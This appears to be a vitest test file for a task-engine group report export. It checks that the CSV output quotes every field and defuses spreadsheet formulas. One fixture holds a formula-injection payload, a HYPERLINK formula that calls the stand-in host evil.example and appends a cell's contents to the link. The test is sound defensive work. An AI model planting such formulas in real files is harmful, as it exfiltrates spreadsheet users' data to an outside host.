import { useFakeEngine } from '@taskweave/engine-client/testing/fakeEngine';
import { HttpResponse } from 'msw';
import { expect, it } from 'vitest';
import { getGroupReportFile } from './groupReport';

const engine = useFakeEngine('demo');
const REPORT = [
  { groupName: '=HYPERLINK("http://evil.example/?"&A2;"Open"),7', taskCount: 2 },
  { groupName: null, taskCount: 40 },
];

/** The engine does not quote CSV, so a name can break out into cells and rows. */
function answerReport(): void {
  engine.on('GET task/report/candidate-group-count', ({ request }) =>
    request.headers.get('Accept') === 'text/csv'
      ? HttpResponse.text(`groupName,taskCount\n${REPORT.map((row) => Object.values(row).join()).join('\n')}`)
      : HttpResponse.json(REPORT),
  );
}

it('the report for a spreadsheet has each group in one cell, and no formula @H59', async () => {
  answerReport();
  const file = await getGroupReportFile(engine.connect(), 'csv');
  expect(await file.text()).toBe(
    '"groupName","taskCount"\r\n"\'=HYPERLINK(""http://evil.example/?""&A2;""Open""),7","2"\r\n"","40"\r\n',
  );
});

it('the report for programs is as the engine has it', async () => {
  answerReport();
  expect(JSON.parse(await (await getGroupReportFile(engine.connect(), 'json')).text())).toEqual(REPORT);
});
